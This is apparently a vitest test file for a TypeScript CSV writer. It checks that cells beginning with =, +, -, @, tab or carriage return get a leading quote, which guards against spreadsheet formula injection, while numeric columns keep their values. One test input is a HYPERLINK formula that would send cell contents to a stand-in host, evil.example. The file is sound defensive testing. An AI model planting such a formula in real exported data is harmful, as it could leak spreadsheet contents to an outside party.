/**
 * The CSV writer (src/http/csv.ts) neutralises a text cell a spreadsheet would
 * run as a formula (docs/decisions.md 86): one beginning with `=`, `+`, `-`,
 * `@`, a tab or a carriage return gets a leading `'`, then RFC 4180 quoting as
 * needed. Numeric columns, declared so by the record's schema, keep their
 * value: a negative premium stays `-1.5`. Read back with csv-parse.
 */
import { Type } from '@sinclair/typebox';
import { describe, expect, it } from 'vitest';
import { csvColumns, toCsv } from '../../src/http/csv.js';
import { csvRows } from '../support/csv.js';

const Record = Type.Object({
  name: Type.String(),
  note: Type.Union([Type.String(), Type.Null()]),
  nested: Type.Object({ label: Type.String(), percent: Type.Number() }),
  count: Type.Integer(),
});
const columns = csvColumns(Record);
const row = (name: string, note: string | null = null) => ({
  name,
  note,
  nested: { label: 'x', percent: -1.5 },
  count: -3,
});

describe('the CSV writer and formulas', () => {
  it('prefixes a quote to text beginning with = + - @ tab or CR, and quotes it as RFC 4180 needs', () => {
    const cases: Array<[string, string, string]> = [
      ['=1+1', "'=1+1", "'=1+1"],
      ['+33 1 23', "'+33 1 23", "'+33 1 23"],
      ['-1.5', "'-1.5", "'-1.5"],
      ['@SUM(A1:A9)', "'@SUM(A1:A9)", "'@SUM(A1:A9)"],
      ['\t=1', "'\t=1", "'\t=1"],
      ['\r=1', '"\'\r=1"', "'\r=1"],
      [
        '=HYPERLINK("http://evil.example/?"&A1,"click")',
        '"\'=HYPERLINK(""http://evil.example/?""&A1,""click"")"',
        '\'=HYPERLINK("http://evil.example/?"&A1,"click")',
      ],
    ];
    for (const [value, written, read] of cases) {
      const text = toCsv(columns, [row(value, value)]);
      expect(text, JSON.stringify(value)).toBe(
        `name,note,nested_label,nested_percent,count\r\n${written},${written},x,-1.5,-3\r\n`,
      );
      expect(csvRows(text)[1]!.slice(0, 2)).toEqual([read, read]);
    }
  });

  it('leaves other text, nulls and numbers as they were', () => {
    const text = toCsv(columns, [row('Euro', null), row('يورو', 'a=b'), row(' =1', "'quoted")]);
    expect(text.split('\r\n').slice(1)).toEqual([
      'Euro,,x,-1.5,-3',
      'يورو,a=b,x,-1.5,-3',
      " =1,'quoted,x,-1.5,-3",
      '',
    ]);
  });
});
